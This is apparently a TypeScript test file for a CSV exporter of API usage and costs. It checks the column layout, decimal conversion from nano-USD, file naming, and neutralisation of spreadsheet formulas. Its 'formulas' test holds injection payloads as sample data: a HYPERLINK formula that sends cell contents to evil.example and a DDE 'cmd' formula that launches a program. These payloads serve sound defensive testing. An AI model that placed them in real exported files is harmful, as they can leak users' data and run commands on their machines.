import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { GroupedUsage } from "../../src/ledger/index.ts";
import { csvName, csvOf } from "../../src/ledger/usage-csv.ts";

type Row = GroupedUsage["rows"][number];
const zeros = { requests: 0, errors: 0, inputTokens: 0, cachedTokens: 0, cacheWriteTokens: 0, outputTokens: 0, reasoningTokens: 0, costNanoUsd: 0, costUsd: 0 };

const usage = (groupBy: GroupedUsage["groupBy"], rows: Partial<Row>[]): GroupedUsage => ({
  object: "usage", scope: "key", month: null, from: "2026-11-01T00:00:00.000Z", to: "2026-12-01T00:00:00.000Z", asOf: "", totals: zeros, refused: null, forecast: null,
  groupBy, rows: rows.map((row) => ({ ...zeros, ...row })),
});

/** RFC 4180 as a spreadsheet reads it. */
function cellsOf(csv: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    lines.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'));
    if (end === "\r\n") lines.push([]);
    if (end === "") break;
  }
  return lines.slice(0, -1);
}

test("a header, a line per row, every class, money in decimal USD and in nano-USD", () => {
  const row = { day: "2026-11-21", model: "gpt-4o", key: "key_1", keyName: "Chat, app", requests: 3, errors: 1, inputTokens: 10, cachedTokens: 2, cacheWriteTokens: 4, outputTokens: 5, reasoningTokens: 6, costNanoUsd: 1_230_000_007 };
  expect(csvOf(usage(["day", "model", "key"], [row]))).toBe(
    "day,model,key,key_name,requests,errors,input_tokens,cached_tokens,cache_write_tokens,output_tokens,reasoning_tokens,cost_usd,cost_nano_usd\r\n" +
    '2026-11-21,gpt-4o,key_1,"Chat, app",3,1,10,2,4,5,6,1.230000007,1230000007\r\n',
  );
});

test("nothing used: the header alone; a key without a project: an empty cell", () => {
  expect(csvOf(usage(["hour", "tag"], []))).toBe("hour,tag,requests,errors,input_tokens,cached_tokens,cache_write_tokens,output_tokens,reasoning_tokens,cost_usd,cost_nano_usd\r\n");
  expect(cellsOf(csvOf(usage(["project", "member"], [{ project: null, member: "a@example.com" }])))[1]!.slice(0, 3)).toEqual(["", "a@example.com", "0"]);
});

test.each<[number, string]>([[0, "0"], [1, "0.000000001"], [100, "0.0000001"], [123_456_789, "0.123456789"], [1e9, "1"], [10_000_000_000, "10"], [300_000_000, "0.3"], [Number.MAX_SAFE_INTEGER, "9007199.254740991"], [-3_000, "-0.000003"], [-1_500_000_000, "-1.5"]])("%d nano-USD are %s USD", (costNanoUsd, usd) => {
  expect(cellsOf(csvOf(usage(["model"], [{ model: "m", costNanoUsd }])))[1]!.slice(-2)).toEqual([usd, String(costNanoUsd)]);
});

describe("formulas", () => {
  const hostile = [
    "=1+1", "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=1\n=2", "=1,=2", "=\"a\"", "=cmd|' /C calc'!A0",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "-openai/gpt", "@cf/meta/llama",
  ];

  test.each(hostile)("%j is text, and nothing of it is lost", (name) => {
    const [, cells] = cellsOf(csvOf(usage(["key", "model"], [{ key: "key_1", keyName: name, model: name }])));
    expect(cells).toHaveLength(12);
    expect([cells![2], cells![1]]).toEqual([`'${name}`, `'${name}`]);
  });

  test("no cell begins like one, no line ends early, whatever a name is (property)", () => {
    const name = fc.oneof(fc.string({ unit: "binary" }), fc.array(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", ";", "'", "a", " ", "＝"), { maxLength: 12 }).map((signs) => signs.join("")));
    fc.assert(fc.property(fc.array(fc.tuple(name, name), { minLength: 1, maxLength: 5 }), (names) => {
      const lines = cellsOf(csvOf(usage(["key", "model"], names.map(([keyName, model]) => ({ key: "k", keyName, model })))));
      expect(lines).toHaveLength(names.length + 1);
      for (const [i, cells] of lines.slice(1).entries()) {
        expect(cells).toHaveLength(12);
        expect([cells[0], cells[3]]).toEqual(["k", "0"]);
        const [keyName, model] = names[i]!;
        for (const [cell, original] of [[cells[1]!, keyName], [cells[2]!, model]] as const) {
          expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
          expect([original, `'${original}`]).toContain(cell);
        }
      }
    }), { numRuns: 200 });
  });
});

test("a file is named by the first and the last day", () => {
  expect(csvName(usage(["day"], []))).toBe("usage-2026-11-01-2026-11-30.csv");
});
